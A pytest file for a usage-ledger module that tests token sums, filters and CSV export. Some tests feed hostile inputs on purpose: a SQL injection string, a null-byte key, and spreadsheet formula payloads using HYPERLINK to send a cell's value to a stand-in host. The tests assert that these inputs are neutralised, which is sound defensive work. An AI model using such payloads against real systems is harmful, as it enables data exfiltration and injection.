from __future__ import annotations

import csv
import io
from collections.abc import Callable

import pytest

from chatwright.accounts.ledger import EndStatus, Ledger, Opening
from chatwright.accounts.store import Store
from chatwright.accounts.usage import UsageFilter, UsageGroup, UsageRow, read_usage, usage_csv
from chatwright.core.usage import Usage

DAY = 86_400_000


@pytest.fixture
async def filled(store: Store, clock: Callable[[], int]) -> Store:
    """Six closed requests over two days, one that runs."""
    book = Ledger(store, clock)
    book.start()
    made: list[tuple[str, str, str, str | None, EndStatus]] = [
        ("k1", "p1", "m1", "ann", "finished"),
        ("k1", "p1", "m2", None, "aborted"),
        ("k2", "p1", "m1", "bob", "failed"),
        ("k3", "p2", "m1", "ann", "stopped"),
        ("k3", "p2", "m1", "ann", "refused"),
        ("k3", "p2", "m1", "=1+1", "finished"),
    ]
    for number, (key, project, model, user, status) in enumerate(made):
        entry = book.open(Opening(f"r{number}", key, project, model, user))
        usage = Usage(10**number, 2 * 10**number, 3 * 10**number, 4 * 10**number, 5 * 10**number)
        entry.close(status, usage, 10**12 * 10**number)
        await entry.closed()
        if number == 2:
            clock.advance(days=1)  # type: ignore[attr-defined]
    await book.open(Opening("running", "k1", "p1", "m1")).recorded()
    book.close()
    store.write(
        lambda connection: connection.exec_driver_sql("UPDATE ledger SET status='open' WHERE status='lost'")
    )
    return store


@pytest.mark.parametrize(
    ("by", "expected"),
    [
        ("key", {"k1": 11, "k2": 100, "k3": 111_000}),
        ("project", {"p1": 111, "p2": 111_000}),
        ("model", {"m1": 111_101, "m2": 10}),
        ("tier", {"default": 111_111}),
        ("user", {"": 10, "=1+1": 100_000, "ann": 11_001, "bob": 100}),
        ("day", {"2026-03-10": 111, "2026-03-11": 111_000}),
    ],
)
def test_sums_are_exact_in_every_grouping(filled: Store, by: UsageGroup, expected: dict[str, int]) -> None:
    rows = read_usage(filled, by)
    assert {row.group: row.input_tokens for row in rows} == expected
    for row in rows:
        times = (row.output_tokens, row.cached_tokens, row.reasoning_tokens, row.accepted_draft_tokens)
        assert times == tuple(factor * row.input_tokens for factor in (2, 3, 4, 5))
        assert row.cost == row.input_tokens * 10**12
        assert row.requests == sum(int(digit) for digit in str(row.input_tokens))
        assert row.requests == row.finished + row.stopped + row.aborted + row.failed + row.refused + row.lost


def test_endings_are_counted_apart(filled: Store) -> None:
    (row,) = read_usage(filled, "project", UsageFilter(project_id="p1"))
    assert (row.finished, row.aborted, row.failed, row.stopped, row.refused, row.lost) == (1, 1, 1, 0, 0, 0)


def test_filters_narrow_down(filled: Store, clock: Callable[[], int]) -> None:
    second_day = clock() - clock() % DAY

    def total(only: UsageFilter) -> int:
        return sum(row.input_tokens for row in read_usage(filled, "day", only))

    assert total(UsageFilter(since=second_day)) == 111_000
    assert total(UsageFilter(until=second_day)) == 111
    assert total(UsageFilter(since=second_day, until=second_day)) == 0
    assert total(UsageFilter(key_id="k1", model="m2")) == 10
    assert total(UsageFilter(user="ann", model="m1")) == 11_001
    assert total(UsageFilter(service_tier="default")) == 111_111
    assert total(UsageFilter(service_tier="flex")) == 0
    assert total(UsageFilter(project_id="p' OR 1=1 --")) == 0
    assert total(UsageFilter(key_id="k1\0")) == 0


def test_csv_reads_back(filled: Store) -> None:
    rows = read_usage(filled, "user")
    table = list(csv.DictReader(io.StringIO(usage_csv("user", rows))))
    assert [entry["user"] for entry in table] == ["", "'=1+1", "ann", "bob"]
    assert [entry["cost"] for entry in table] == [str(row.cost // 10**12) for row in rows]
    assert list(table[0]) == ["user", *UsageRow.__struct_fields__[1:]]


@pytest.mark.parametrize("begin", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
def test_no_user_becomes_a_formula_in_a_spreadsheet(begin: str) -> None:
    user = f'{begin}HYPERLINK("http://a.example/?"&A1)'
    row = UsageRow(user, *(0,) * (len(UsageRow.__struct_fields__) - 1))
    (entry,) = csv.DictReader(io.StringIO(usage_csv("user", [row]), newline=""))
    assert entry["user"] == "'" + user
